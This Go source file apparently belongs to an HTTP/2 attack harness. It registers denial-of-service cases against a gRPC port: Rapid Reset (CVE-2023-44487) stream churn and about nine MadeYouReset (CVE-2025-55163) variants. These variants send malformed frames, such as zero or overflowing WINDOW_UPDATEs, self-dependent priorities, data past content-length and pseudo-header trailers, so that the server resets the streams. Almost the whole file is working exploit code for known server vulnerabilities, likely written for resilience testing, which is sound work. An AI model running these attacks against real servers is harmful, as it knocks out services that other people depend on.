package main

import (
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Streams that are reset as fast as they are opened: by the client, or by the server, which the client makes do it.

func init() {
	churn := func(name, what string, write func(*conn)) {
		add(attack{name: name, port: grpcPort, what: what, run: each(4, settings{}, func(c *conn) error {
			return c.churn(100, func() { write(c) })
		})})
	}
	churn("rapid-reset", "Redirect calls that are cancelled before their request has ended (CVE-2023-44487).",
		func(c *conn) { must(c.WriteRSTStream(c.begin(redirectPath), http2.ErrCodeCancel)) })
	churn("rapid-reset-watch", "Health watches that are cancelled as soon as they have begun (CVE-2023-44487).",
		func(c *conn) { must(c.WriteRSTStream(c.call(watchPath, watchRequest), http2.ErrCodeCancel)) })
	churn("reset-closed", "RST_STREAM frames for a stream that is closed.",
		func(c *conn) {
			if c.lastID == ^uint32(0) {
				c.call(redirectPath, exampleRequest)
			}
			must(c.WriteRSTStream(c.lastID, http2.ErrCodeCancel))
		})

	// MadeYouReset (CVE-2025-55163): each form is an error of a stream whose call has begun.
	madeYouReset := func(form, what string, write func(c *conn)) {
		churn("made-you-reset-"+form, "Streams that the server resets for "+what+" (CVE-2025-55163).", write)
	}
	madeYouReset("window-zero", "a WINDOW_UPDATE of zero",
		func(c *conn) { must(c.WriteWindowUpdate(c.call(watchPath, watchRequest), 0)) })
	madeYouReset("window-overflow", "a window beyond 2³¹ - 1",
		func(c *conn) { must(c.WriteWindowUpdate(c.call(watchPath, watchRequest), maxWindow)) })
	madeYouReset("data-after-end", "DATA after the end of the request",
		func(c *conn) { must(c.WriteData(c.call(watchPath, watchRequest), true, watchRequest)) })
	madeYouReset("headers-after-end", "HEADERS after the end of the request",
		func(c *conn) {
			id := c.call(watchPath, watchRequest)
			c.headers(id, true, c.trailers("a", "b"))
		})
	madeYouReset("priority-length", "a PRIORITY frame of a wrong length",
		func(c *conn) {
			must(c.WriteRawFrame(http2.FramePriority, 0, c.call(watchPath, watchRequest), []byte{0}))
		})
	madeYouReset("priority-self", "a priority that depends on itself",
		func(c *conn) {
			id := c.call(watchPath, watchRequest)
			must(c.WritePriority(id, http2.PriorityParam{StreamDep: id, Weight: 1}))
		})
	madeYouReset("content-length", "more data than content-length says",
		func(c *conn) {
			id := c.begin(watchPath, "content-length", "1")
			must(c.WriteData(id, true, watchRequest))
		})
	madeYouReset("pseudo-trailers", "trailers with a pseudo-header",
		func(c *conn) { c.headers(c.begin(redirectPath), true, c.trailers(":path", "/")) })
	madeYouReset("malformed-headers", "headers with a name in upper case",
		func(c *conn) { c.call(redirectPath, exampleRequest, "Upper", "case") })
}

// trailers returns a header block with one field, never indexed.
func (c *conn) trailers(name, value string) []byte {
	c.block.Reset()
	must(c.encoder.WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true}))
	return c.block.Bytes()
}
